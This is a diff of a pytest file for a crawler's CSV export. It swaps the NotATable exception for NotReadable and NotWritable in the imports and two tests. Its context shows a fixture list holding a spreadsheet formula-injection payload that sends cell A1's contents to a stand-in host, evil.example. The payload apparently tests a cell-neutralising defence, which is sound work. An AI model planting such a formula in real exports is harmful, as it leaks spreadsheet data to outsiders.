@@ -6,7 +6,8 @@ import json
 
 import pytest
 
-from crawler.export.csv import MOST_COLUMNS, NotATable, fields_of, inert_cell, read_table, write_table
+from crawler.export.csv import MOST_COLUMNS, fields_of, inert_cell, read_table, write_table
+from crawler.export.formats import NotReadable, NotWritable
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -152,7 +153,7 @@ def test_a_record_without_fields_is_a_line() -> None:
 
 def test_a_table_has_a_bound_of_columns() -> None:
     lines = (json.dumps({f"f{number}": 1}).encode() for number in range(MOST_COLUMNS + 1))
-    with pytest.raises(NotATable, match="more than 16,384 different fields"):
+    with pytest.raises(NotWritable, match="more than 16,384 different fields"):
         fields_of(lines)
 
 
@@ -166,7 +167,7 @@ def test_a_table_has_a_bound_of_columns() -> None:
     ],
 )
 def test_what_is_no_table_cannot_be_added_to(text: str, said: str) -> None:
-    with pytest.raises(NotATable, match=said):
+    with pytest.raises(NotReadable, match=said):
         list(read_table(io.StringIO(text, newline=""), is_safe=True))
 
 
